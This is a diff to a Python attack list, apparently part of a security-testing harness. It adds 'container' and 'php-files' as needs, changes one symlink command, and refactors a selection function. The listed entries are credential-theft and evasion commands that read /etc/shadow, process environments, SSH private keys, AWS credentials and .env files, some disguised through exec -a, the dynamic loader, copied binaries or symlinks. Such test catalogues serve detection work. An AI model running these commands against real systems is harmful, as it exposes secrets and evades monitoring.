@@ -32,7 +32,7 @@ class Attack:
     """What must be in the command's output, in the reverse shell's, or in a request at the attacker's server."""
 
     needs: Sequence[str] = field(default=())
-    """Programs; "root": only in services that run as root; "php": only where PHP runs from files."""
+    """Programs; "root", "container": only in services that run so; "php-files": only where PHP runs from files."""
 
     seconds: float = 0
     """How long something goes on after the request."""
@@ -102,11 +102,13 @@ ATTACKS = [
     Attack("exec -a", "bash -c 'exec -a nginx cat SECRET'", "WC", proof="none"),
     Attack("ld.so", "/lib64/ld-linux-x86-64.so.2 /bin/cat SECRET", "WC", proof="none"),
     Attack("copied cat", "cp /bin/cat TMP.nginx && TMP.nginx SECRET", "WC", proof="none"),
-    Attack("linked secret", "ln -s SECRET TMP.t && head -1 TMP.t", "WC", proof="none"),
+    Attack("linked secret", "ln -s SECRET TMP.t && tail -1 TMP.t", "WC", proof="none"),
     Attack("linked cat", "ln -s /bin/cat TMP.c && TMP.c SECRET", "WC", proof="none"),
     Attack("shell reads a secret", "while read line; do echo $line; done < SECRET", "WC", proof="none"),
     Attack("shadow", "cat /etc/shadow", "WC", proof="root:", needs=["root"]),
-    Attack("another's environment", "tr '\\0' '\\n' < /proc/1/environ", "WC", proof=r"=|\n\n", needs=["root"]),
+    Attack(
+        "another's environment", "tr '\\0' '\\n' < /proc/1/environ", "WC", proof=r"=|\n\n", needs=["root", "container"]
+    ),
     Attack("private key", "cat HOME/.ssh/id_rsa", "WC", proof="BEGIN"),
     Attack("cloud credentials", "cat HOME/.aws/credentials", "WC", proof="aws_secret"),
     Attack("dotenv", "cat HOME/app/.env", "WC", proof="PASSWORD"),
@@ -179,10 +181,14 @@ ATTACKS = [
 ]
 
 
-def chosen(service: str, kind: str, allowed: frozenset[str], start: int, number: int) -> Iterator[tuple[int, Attack]]:
+MARKS = {"root", "container", "php-files"}
+"""Needs that are no programs."""
+
+
+def chosen(allowed: frozenset[str], start: int, number: int) -> Iterator[tuple[int, Attack]]:
     """The next attacks in turn that a service allows, with their places in the list."""
     for step in range(len(ATTACKS)):
         index = (start + step) % len(ATTACKS)
-        if {"root", "php-files"} & set(ATTACKS[index].needs) <= allowed and number:
+        if MARKS & set(ATTACKS[index].needs) <= allowed and number:
             number -= 1
             yield index, ATTACKS[index]
